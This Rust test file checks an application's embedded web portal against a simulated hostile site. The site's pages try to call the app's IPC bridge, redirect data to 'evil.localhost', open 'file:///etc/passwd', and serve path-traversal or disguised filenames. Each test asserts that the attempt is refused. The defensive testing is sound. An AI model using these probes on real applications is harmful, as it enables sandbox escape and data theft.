//! A hostile site: it tries to reach the application, to leave its window, to keep something, to hold the desk.
//! Nothing gets out, nothing hangs.

use std::time::Duration;

use guichet_api::COMMANDS;
use guichet_tests::support::until;
use serde_json::{Value, json};

use crate::bench::{Bench, Visit};
use crate::server::{Answer, Asked, Server};

/// What each hostile page can do: tell the site what it found.
const TELL: &str = "<script>
    const tell = (name, value) =>
        fetch('/tell/' + name, { method: 'POST', body: JSON.stringify(value ?? null) });
    const attempt = async (ask) => {
        try { return { got: String(await ask()) }; } catch (error) { return { refused: String(error) }; }
    };
</script>";

/// A page of the hostile site.
fn page(body: &str) -> Answer {
    Answer::page(&format!("<!doctype html><meta charset=utf-8>{TELL}{body}"))
}

/// A site whose first page is this one, and that hears what it tells.
fn site(first: &'static str) -> Server {
    site_of(move |asked, _| (asked.path == "/").then(|| page(first)))
}

/// A site of several pages.
fn site_of(pages: impl Fn(&Asked, u16) -> Option<Answer> + Send + Sync + 'static) -> Server {
    Server::start(move |asked, port| {
        if asked.path.starts_with("/tell/") {
            return Answer::of("text/plain", b"");
        }
        pages(asked, port).unwrap_or_else(Answer::missing)
    })
}

fn told(server: &Server, name: &str) -> Value {
    let asked = server.wait_for(&format!("/tell/{name}"));
    serde_json::from_str(&asked.body).unwrap_or_else(|_| panic!("{}", asked.body))
}

/// Opens the first page, without waiting for it to be whole: it may never be.
#[track_caller]
fn begin(bench: &mut Bench) -> Visit {
    let visit = bench.receive("Fatou", "Diallo");
    bench.call("portal_open", json!({"request": visit.request}));
    visit
}

fn refused(view: &Value) -> Vec<&str> {
    let hosts = view["refused"].as_array().unwrap();
    hosts.iter().map(|r| r["host"].as_str().unwrap()).collect()
}

/// Whether the site was ever asked something under another name.
fn reached(server: &Server, host: &str) -> bool {
    server.asked().iter().any(|asked| asked.host == host)
}

/// The desk goes on: it answers, and it closes the window.
#[track_caller]
fn the_desk_goes_on(bench: &mut Bench, visit: &Visit) {
    bench.call("touch", json!({}));
    bench.call("session_pause", json!({"session": visit.session}));
    bench.call("session_resume", json!({"session": visit.session}));
    bench.call("portal_close", json!({"session": visit.session}));
    bench.call("today", json!({}));
    bench.counter.no_fault();
}

const BRIDGE: &str = "<script>
    const names = NAMES;
    (async () => {
        const inside = window.__TAURI_INTERNALS__;
        const found = { bridge: typeof inside, ipc: typeof window.ipc, frozen: Object.isFrozen(Object.prototype),
                        handler: typeof window.webkit?.messageHandlers?.ipc, answers: [] };
        const call = (ask) => Promise.race([ask(), new Promise((_, no) => setTimeout(() => no('silence'), 4000))]);
        for (const name of names) {
            found.answers.push([name, await attempt(() => call(() => inside.invoke(name, { args: {} })))]);
        }
        for (const address of ['ipc://localhost/app_state', 'http://ipc.localhost/app_state',
                               'tauri://localhost/', 'tauri://localhost/index.html', 'http://tauri.localhost/']) {
            found.answers.push([address, await attempt(() => call(() =>
                fetch(address, { method: address.includes('ipc') ? 'POST' : 'GET', body: address.includes('ipc') ? '{}' : undefined,
                                 headers: address.includes('ipc') ? { 'Tauri-Callback': '1', 'Tauri-Error': '2' } : {} })
                    .then(async (answer) => { if (!answer.ok) throw answer.status; return answer.text(); })))]);
        }
        for (const post of [(text) => window.ipc.postMessage(text),
                            (text) => window.webkit.messageHandlers.ipc.postMessage(text)]) {
            found.answers.push(['post', await attempt(async () => {
                window.__heard = undefined;
                post(JSON.stringify({ cmd: 'app_state', callback: 1, error: 2, payload: { args: {} },
                                      options: {}, __TAURI_INVOKE_KEY__: 'guess' }));
                await new Promise((yes) => setTimeout(yes, 300));
                throw 'nothing came back';
            })]);
        }
        window.postMessage({ cmd: 'app_state' }, '*');
        tell('bridge', found);
    })();
</script>";

fn bridge_page() -> String {
    let mut names: Vec<&str> = COMMANDS.iter().map(|command| command.name).collect();
    names.extend([
        "window_ready",
        "page_fault",
        "plugin:event|emit",
        "plugin:event|listen",
        "plugin:webview|create_webview_window",
        "plugin:dialog|save",
        "plugin:app|version",
    ]);
    BRIDGE.replace("NAMES", &serde_json::to_string(&names).unwrap())
}

#[track_caller]
fn no_command_answers(found: &Value) {
    let answers = found["answers"].as_array().unwrap();
    assert!(answers.len() > COMMANDS.len());
    for answer in answers {
        assert!(answer[1]["got"].is_null(), "{answer}");
    }
}

#[test]
fn the_commands_of_the_application_are_out_of_reach() {
    let server = site_of(|asked, _| (asked.path == "/").then(|| page(&bridge_page())));
    let mut bench = Bench::open("portal-commands", server);
    begin(&mut bench);
    let found = told(&bench.server, "bridge");
    assert_eq!(found["bridge"], "undefined");
    assert_eq!(found["ipc"], "undefined");
    assert_eq!(found["handler"], "undefined");
    assert_eq!(found["frozen"], false);
    no_command_answers(&found);
}

#[test]
fn the_commands_are_refused_where_the_engine_shows_them() {
    let server = site_of(|asked, _| (asked.path == "/").then(|| page(&bridge_page())));
    let mut bench = Bench::open_with(
        "portal-bridge",
        server,
        &[("GUICHET_PORTAL_BRIDGE", "kept")],
    );
    begin(&mut bench);
    let found = told(&bench.server, "bridge");
    assert_eq!(found["bridge"], "object");
    no_command_answers(&found);
    let answers = found["answers"].as_array().unwrap();
    let by_the_list = answers
        .iter()
        .filter(|a| {
            a[1]["refused"]
                .as_str()
                .is_some_and(|why| why.contains("not allowed"))
        })
        .count();
    assert!(by_the_list >= COMMANDS.len(), "{by_the_list}");
    // Our own page is frozen; a site's is not, with all that the application could put in it.
    assert_eq!(found["frozen"], false);
    let frozen = "return Object.isFrozen(Object.prototype)";
    assert_eq!(bench.counter.script(frozen), true);
}

#[test]
fn a_redirection_to_another_site_is_refused_and_told() {
    let server = site_of(|asked, port| {
        let elsewhere = format!("http://evil.localhost:{port}/stolen?nir=287");
        match asked.path.as_str() {
            "/" => Some(Answer::redirect("/again")),
            "/again" => Some(Answer::redirect(&elsewhere)),
            _ => None,
        }
    });
    let mut bench = Bench::open("portal-redirection", server);
    let visit = begin(&mut bench);
    let view = bench.wait(&visit, "a refusal", |view| !refused(view).is_empty());
    assert_eq!(refused(&view), ["evil.localhost"]);
    assert!(
        !reached(&bench.server, "evil.localhost"),
        "{:?}",
        bench.server.paths()
    );
    // Neither the name nor the address is in the log.
    assert!(
        !bench.counter.log().contains("evil"),
        "{}",
        bench.counter.log()
    );
    the_desk_goes_on(&mut bench, &visit);
}

#[test]
fn no_way_of_leaving_the_site_is_open() {
    const WAYS: [&str; 6] = [
        "location.href = EVIL",
        "document.body.innerHTML = `<form method=post action=${EVIL}><input name=a value=b></form>`; document.forms[0].submit()",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${EVIL}'>`)",
        "document.body.innerHTML = `<a href=${EVIL}>x</a>`; document.querySelector('a').click()",
        "top.location.replace('data:text/html,<h1>free</h1>')",
        "location.href = 'file:///etc/passwd'",
    ];
    let server = site_of(|asked, port| {
        let evil = format!("const EVIL = 'http://evil.localhost:{port}/out';");
        let all = WAYS
            .iter()
            .enumerate()
            .map(|(at, way)| format!("setTimeout(() => {{ {way} }}, {});", 100 * at))
            .collect::<String>();
        let script = format!(
            "<body><script>{evil}{all} setTimeout(() => tell('still-here', location.host), 1500)</script>"
        );
        (asked.path == "/").then(|| page(&script))
    });
    let mut bench = Bench::open("portal-leaving", server);
    let visit = begin(&mut bench);
    let here = told(&bench.server, "still-here");
    assert!(
        here.as_str().unwrap().starts_with("site.localhost"),
        "{here}"
    );
    assert!(
        !reached(&bench.server, "evil.localhost"),
        "{:?}",
        bench.server.paths()
    );
    let view = bench.portal(&visit);
    assert!(refused(&view).contains(&"evil.localhost"), "{view}");
    assert_eq!(view["host"], "site.localhost");
}

#[test]
fn a_frame_of_another_site_is_not_loaded_however_deep() {
    let server = site_of(|asked, port| {
        let frame = |host: &str, path: &str| {
            Some(page(&format!(
                "<iframe src='http://{host}:{port}{path}'></iframe>"
            )))
        };
        match (asked.host.as_str(), asked.path.as_str()) {
            ("site.localhost", "/") => frame("inside.site.localhost", "/one"),
            ("inside.site.localhost", "/one") => frame("site.localhost", "/two"),
            ("site.localhost", "/two") => Some(page(&format!(
                "<iframe srcdoc=\"<iframe src='http://evil.localhost:{port}/deep'></iframe>\"></iframe>
                 <script>setTimeout(() => tell('deep'), 800)</script>"
            ))),
            _ => None,
        }
    });
    let mut bench = Bench::open("portal-frames", server);
    let visit = begin(&mut bench);
    told(&bench.server, "deep");
    assert!(reached(&bench.server, "inside.site.localhost"));
    assert!(
        !reached(&bench.server, "evil.localhost"),
        "{:?}",
        bench.server.paths()
    );
    assert_eq!(refused(&bench.portal(&visit)), ["evil.localhost"]);
}

#[test]
fn windows_do_not_open_by_themselves() {
    let server = site(
        "<script>
            const opened = [];
            for (let i = 0; i < 50; i++) opened.push(window.open('/pop' + i, '_blank') !== null);
            tell('opened', opened.filter(Boolean).length);
        </script>",
    );
    let mut bench = Bench::open("portal-storm", server);
    let visit = begin(&mut bench);
    assert_eq!(told(&bench.server, "opened"), json!(0));
    the_desk_goes_on(&mut bench, &visit);
}

/// A link as large as the page, to be clicked anywhere.
fn large_link(to: &str) -> Answer {
    page(&format!(
        "<a href='{to}' target=_blank style='position:fixed;inset:0;background:#cdf'>ici</a>
         <script>document.cookie = 'citizen=one'; tell('ready')</script>"
    ))
}

#[test]
fn a_pop_up_of_the_site_stays_in_the_session() {
    let server = site_of(|asked, _| match asked.path.as_str() {
        "/" => Some(large_link("/pop")),
        "/pop" => Some(page(
            "<h1>pop</h1><script>tell('pop', document.cookie)</script>",
        )),
        _ => None,
    });
    let mut bench = Bench::open("portal-pop-up", server);
    let visit = begin(&mut bench);
    told(&bench.server, "ready");
    if !bench.counter.click_the_screen(900, 400) {
        return;
    }
    assert_eq!(told(&bench.server, "pop"), "citizen=one");
    bench.counter.picture_of_the_screen("pop-up");
    // It goes with the rest.
    the_desk_goes_on(&mut bench, &visit);
    let visit = bench.receive("Jean", "Petit");
    bench.go_online(&visit);
}

#[test]
fn a_pop_up_of_another_site_is_refused() {
    let server = site_of(|asked, port| {
        let evil = format!("http://evil.localhost:{port}/pop");
        (asked.path == "/").then(|| large_link(&evil))
    });
    let mut bench = Bench::open("portal-foreign-pop-up", server);
    let visit = begin(&mut bench);
    told(&bench.server, "ready");
    if !bench.counter.click_the_screen(900, 400) {
        return;
    }
    let view = bench.wait(&visit, "a refusal", |view| !refused(view).is_empty());
    assert_eq!(refused(&view), ["evil.localhost"]);
    assert!(!reached(&bench.server, "evil.localhost"));
}

/// A form in which somebody typed.
const TYPED: &str = "<form><label>Nom <input name=nom value=Diallo></label></form>";

/// Says so again and again.
const ALIVE: &str = "<script>setInterval(() => tell('alive'), 100)</script>";

/// The page goes on saying that it is there.
#[track_caller]
fn the_page_goes_on(bench: &Bench) {
    let said = || {
        let asked = bench.server.asked();
        asked.iter().filter(|a| a.path == "/tell/alive").count()
    };
    let before = said();
    until(|| (said() > before + 10).then_some(())).expect("the page goes on");
}

/// Whether the page shown is still the one with what was typed in it.
#[track_caller]
fn still_typed(bench: &mut Bench, visit: &Visit) -> bool {
    let view = bench.call("portal_sense", json!({"session": visit.session}));
    let left = view["page"]["left"].as_array().unwrap();
    left.iter().any(|field| field["why"] == "answered")
}

#[test]
fn a_pop_up_without_security_leaves_the_form_that_opened_it() {
    let server = site_of(|asked, _| {
        (asked.path == "/").then(|| {
            page(&format!(
                "{TYPED}<a href='http://help.site.localhost/aide' target=_blank
                    style='position:fixed;inset:0'></a>{ALIVE}<script>tell('ready')</script>"
            ))
        })
    });
    let mut bench = Bench::open("portal-plain-pop-up", server);
    let visit = begin(&mut bench);
    told(&bench.server, "ready");
    assert!(still_typed(&mut bench, &visit));
    if !bench.counter.click_the_screen(900, 400) {
        return;
    }
    // It opens by itself, on another page, and no page of that name answers.
    bench.wait(&visit, "the pop-up", |view| {
        view["problem"] == "network" && view["page"].is_null()
    });
    the_page_goes_on(&bench);
}

#[test]
fn a_frame_without_security_leaves_the_page_around_it() {
    let server = site_of(|asked, _| {
        (asked.path == "/").then(|| {
            page(&format!(
                "{TYPED}<iframe src='http://help.site.localhost/aide'></iframe>
                 <script>setTimeout(() => tell('still-here'), 1500)</script>"
            ))
        })
    });
    let mut bench = Bench::open("portal-plain-frame", server);
    let visit = begin(&mut bench);
    told(&bench.server, "still-here");
    assert!(still_typed(&mut bench, &visit));
    let view = bench.portal(&visit);
    assert_eq!(view["host"], "site.localhost");
    assert_eq!(refused(&view), Vec::<&str>::new());
    // Nobody answers by https: the window itself was never sent there.
    assert_eq!(view["problem"], Value::Null);
}

#[test]
fn allowing_the_host_of_a_frame_leaves_the_page_around_it() {
    let server = site_of(|asked, port| match asked.host.as_str() {
        "site.localhost" if asked.path == "/" => Some(page(&format!(
            "{TYPED}<iframe src='http://partner.localhost:{port}/chat'></iframe>
             {ALIVE}"
        ))),
        "partner.localhost" => Some(page("<h1>Partner</h1>")),
        _ => None,
    });
    let mut bench = Bench::open("portal-allow-frame", server);
    let visit = begin(&mut bench);
    bench.wait(&visit, "a refusal", |view| {
        refused(view) == ["partner.localhost"] && view["loading"] == false
    });
    assert!(still_typed(&mut bench, &visit));
    let host = json!({"session": visit.session, "host": "partner.localhost"});
    let view = bench.call("portal_allow_host", host);
    assert!(refused(&view).is_empty());
    the_page_goes_on(&bench);
    assert!(still_typed(&mut bench, &visit));
    assert!(!reached(&bench.server, "partner.localhost"));
}

#[test]
fn nothing_of_the_computer_is_granted() {
    let server = site(
        "<script>(async () => {
            const soon = (ask) => Promise.race([ask(), new Promise((_, no) => setTimeout(() => no('silence'), 3000))]);
            const all = {
                place: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, (e) => no(e.message))),
                camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
                microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
                screen: () => navigator.mediaDevices.getDisplayMedia({ video: true }),
                notes: async () => { const word = await Notification.requestPermission();
                                     if (word !== 'granted') throw word; return word; },
                clipboard: () => navigator.clipboard.readText(),
                paste: async () => { if (!document.execCommand('paste')) throw 'no'; return 'pasted'; },
                storage: async () => { const kept = await navigator.storage.persist(); if (!kept) throw 'no'; return kept; },
                midi: () => navigator.requestMIDIAccess(),
                usb: () => navigator.usb.requestDevice({ filters: [] }),
                files: () => window.showOpenFilePicker(),
                whole: () => document.documentElement.requestFullscreen(),
            };
            const found = {};
            for (const [name, ask] of Object.entries(all)) found[name] = await attempt(() => soon(ask));
            tell('granted', found);
        })()</script>",
    );
    let mut bench = Bench::open("portal-permissions", server);
    begin(&mut bench);
    let found = told(&bench.server, "granted");
    for (name, answer) in found.as_object().unwrap() {
        assert!(answer["got"].is_null(), "{name}: {answer}");
    }
}

#[test]
fn endless_dialogs_hold_nothing() {
    let mut bench = Bench::open(
        "portal-dialogs",
        site("<script>tell('alert').finally(() => { for (;;) alert('encore'); })</script>"),
    );
    let visit = begin(&mut bench);
    told(&bench.server, "alert");
    bench.counter.picture_of_the_screen("dialog");
    the_desk_goes_on(&mut bench, &visit);
}

#[test]
fn after_a_few_dialogs_the_page_is_answered_unseen() {
    let mut bench = Bench::open(
        "portal-siege",
        site(
            "<script>
                tell('siege').finally(() => {
                    for (let i = 0; i < 40; i++) { if (i % 2) alert(i); else confirm(i); }
                    tell('over');
                });
            </script>",
        ),
    );
    let visit = begin(&mut bench);
    told(&bench.server, "siege");
    let server = bench.server.clone();
    let over = |server: &Server| server.asked().iter().any(|a| a.path == "/tell/over");
    let mut pressed = 0;
    while !over(&server) && pressed < 12 {
        pressed += 1;
        if !bench.counter.press_on_the_screen("Return") {
            return;
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    server.wait_for("/tell/over");
    let silenced = bench.portal(&visit)["dialogs_silenced"].as_u64().unwrap();
    assert!((30..=36).contains(&silenced), "{silenced}");
}

#[test]
fn a_page_that_never_rests_holds_nothing() {
    let mut bench = Bench::open(
        "portal-busy",
        site("<input name=nom><script>tell('busy').finally(() => { for (;;); })</script>"),
    );
    let visit = begin(&mut bench);
    told(&bench.server, "busy");
    the_desk_goes_on(&mut bench, &visit);
    // Another window opens after it.
    bench.call("portal_open", json!({"request": visit.request}));
    until(|| {
        (bench
            .server
            .asked()
            .iter()
            .filter(|a| a.path == "/")
            .count()
            > 1)
        .then_some(())
    })
    .expect("a second window");
}

#[test]
fn a_page_that_prints_for_ever_shows_no_dialog() {
    let mut bench = Bench::open(
        "portal-print",
        site("<script>for (let i = 0; i < 200; i++) print(); tell('printed')</script>"),
    );
    let visit = begin(&mut bench);
    told(&bench.server, "printed");
    let view = bench.wait(&visit, "the wish to print", |view| {
        view["print_asked"] == true
    });
    assert_eq!(view["open"], true);
    the_desk_goes_on(&mut bench, &visit);
}

#[test]
fn a_page_that_will_not_be_left_is_left() {
    let mut bench = Bench::open(
        "portal-unload",
        site(
            "<script>
                addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'non'; });
                tell('here');
            </script>",
        ),
    );
    let visit = begin(&mut bench);
    told(&bench.server, "here");
    the_desk_goes_on(&mut bench, &visit);
}

/// One file for each odd name, asked for by the page itself.
fn odd_files() -> Server {
    site_of(|asked, _| {
        let long = "a".repeat(300);
        let names = [
            "../../../.bashrc".to_owned(),
            "..\\..\\start.exe".to_owned(),
            "CON.pdf".to_owned(),
            format!("{long}.pdf"),
            "lettre\u{202e}fdp.exe".to_owned(),
            "a\u{1}b:c|d?.pdf".to_owned(),
        ];
        if asked.path == "/" {
            let frames: String = (0..names.len())
                .map(|n| format!("<iframe src='/file/{n}'></iframe>"))
                .collect();
            return Some(page(&frames));
        }
        let at: usize = asked.path.strip_prefix("/file/")?.parse().ok()?;
        let encoded: String = names[at].bytes().map(|b| format!("%{b:02X}")).collect();
        let disposition = format!("attachment; filename*=UTF-8''{encoded}");
        let file = Answer::of("application/pdf", b"%PDF-1.4 of the site");
        Some(file.with("Content-Disposition", &disposition))
    })
}

#[test]
fn files_with_odd_names_wait_in_memory_under_safe_ones() {
    let mut bench = Bench::open("portal-files", odd_files());
    let visit = begin(&mut bench);
    let view = bench.wait(&visit, "six files", |view| {
        view["downloads"]
            .as_array()
            .is_some_and(|all| all.len() == 6)
    });
    for file in view["downloads"].as_array().unwrap() {
        let name = file["name"].as_str().unwrap();
        assert!(name.len() <= 70 && name.ends_with(".pdf"), "{name}");
        let plain = |c: char| c.is_alphanumeric() || " -_.".contains(c);
        assert!(
            name.chars().all(plain) && !name.starts_with('.'),
            "{name:?}"
        );
        assert_ne!(name, "CON.pdf");
        assert_eq!(file["media"], "application/pdf");
        assert_eq!(file["size"], 20);
    }
    // Nothing of them is on the disk, while they wait and after.
    assert_eq!(files_that_say(&bench, b"of the site"), Vec::<String>::new());
    the_desk_goes_on(&mut bench, &visit);
    assert_eq!(files_that_say(&bench, b"of the site"), Vec::<String>::new());
}

/// The files, wherever the application may write, that hold these bytes.
pub fn files_that_say(bench: &Bench, bytes: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    let mut folders = vec![
        bench.counter.home().to_owned(),
        bench.counter.data().to_owned(),
    ];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => folders.push(entry.path()),
                Ok(kind) if kind.is_file() => {
                    let held = std::fs::read(entry.path()).unwrap_or_default();
                    if held.windows(bytes.len()).any(|part| part == bytes) {
                        found.push(entry.path().display().to_string());
                    }
                }
                _ => {}
            }
        }
    }
    found
}

#[test]
fn too_many_files_and_too_large_ones_are_refused() {
    let server = site_of(|asked, _| {
        if asked.path == "/" {
            let frames: String = (0..30)
                .map(|n| format!("<iframe src='/file/{n}'></iframe>"))
                .collect();
            return Some(page(&format!(
                "{frames}<script>onload = () => tell('asked')</script>"
            )));
        }
        let large = asked.path == "/file/0";
        let mut bytes = b"%PDF-1.4".to_vec();
        bytes.resize(if large { 30 * 1024 * 1024 } else { 100 }, b' ');
        let file = Answer::of("application/pdf", &bytes);
        asked
            .path
            .starts_with("/file/")
            .then(|| file.with("Content-Disposition", "attachment; filename=recu.pdf"))
    });
    let mut bench = Bench::open("portal-many-files", server);
    let visit = begin(&mut bench);
    let view = bench.wait(&visit, "some files", |view| {
        view["downloads"]
            .as_array()
            .is_some_and(|all| all.len() >= 7)
    });
    let files = view["downloads"].as_array().unwrap();
    assert!(files.len() <= 8, "{}", files.len());
    assert!(files.iter().all(|file| file["size"] == 100), "{files:?}");
    the_desk_goes_on(&mut bench, &visit);
}

#[test]
fn files_that_were_stopped_take_no_place() {
    let server = site_of(|asked, _| {
        let frames = |from: u32, to: u32| -> String {
            (from..to)
                .map(|n| format!("<iframe src='/file/{n}'></iframe>"))
                .collect()
        };
        if asked.path == "/" {
            let more = frames(20, 21);
            return Some(page(&format!(
                "{}<script>setTimeout(() => {{ document.body.innerHTML += `{more}` }}, 2000)</script>",
                frames(0, 8)
            )));
        }
        let mut bytes = b"%PDF-1.4 of the site".to_vec();
        if asked.path != "/file/20" {
            bytes.resize(26 * 1024 * 1024, b' ');
        }
        let file = Answer::of("application/pdf", &bytes);
        asked
            .path
            .starts_with("/file/")
            .then(|| file.with("Content-Disposition", "attachment; filename=recu.pdf"))
    });
    let mut bench = Bench::open("portal-stopped-files", server);
    let visit = begin(&mut bench);
    let view = bench.wait(&visit, "the last file", |view| {
        view["downloads"]
            .as_array()
            .is_some_and(|all| !all.is_empty())
    });
    assert_eq!(view["downloads"].as_array().unwrap().len(), 1, "{view}");
    assert_eq!(view["downloads"][0]["size"], 20);
    the_desk_goes_on(&mut bench, &visit);
    assert_eq!(files_that_say(&bench, b"of the site"), Vec::<String>::new());
}

#[test]
fn a_certificate_that_nobody_signed_is_refused() {
    let Some(tls) = crate::server::self_signed() else {
        println!("not run: no openssl");
        return;
    };
    let port = tls.port;
    let server = site_of(move |asked, _| {
        (asked.path == "/")
            .then(|| Answer::redirect(&format!("https://tls.site.localhost:{port}/secret")))
    });
    let mut bench = Bench::open("portal-certificate", server);
    let visit = begin(&mut bench);
    let view = bench.wait(&visit, "a refusal", |view| view["problem"] == "certificate");
    assert_ne!(view["host"], "tls.site.localhost");
    assert!(!tls.was_asked(), "a request went through");
    the_desk_goes_on(&mut bench, &visit);
}

#[test]
fn a_host_that_the_agent_allows_is_shown_and_journalled() {
    let server = site_of(
        |asked, port| match (asked.host.as_str(), asked.path.as_str()) {
            ("site.localhost", "/") => Some(Answer::redirect(&format!(
                "http://partner.localhost:{port}/form"
            ))),
            ("partner.localhost", "/form") => Some(page("<h1>Partner</h1>")),
            _ => None,
        },
    );
    let mut bench = Bench::open("portal-allow", server);
    let visit = begin(&mut bench);
    bench.wait(&visit, "a refusal", |view| {
        refused(view) == ["partner.localhost"]
    });
    let other = json!({"session": visit.session, "host": "other.localhost"});
    assert_eq!(bench.fails("portal_allow_host", other), "NOT_FOUND");
    let allow = json!({"session": visit.session, "host": "partner.localhost"});
    bench.call("portal_allow_host", allow);
    let view = bench.wait(&visit, "the partner's page", |view| {
        view["host"] == "partner.localhost"
    });
    assert_eq!(view["host_kind"], "allowed");
    assert!(refused(&view).is_empty());
    // For this session alone.
    let next = bench.receive("Jean", "Petit");
    bench.call("portal_open", json!({"request": next.request}));
    bench.wait(&next, "a refusal", |view| {
        refused(view) == ["partner.localhost"]
    });
}
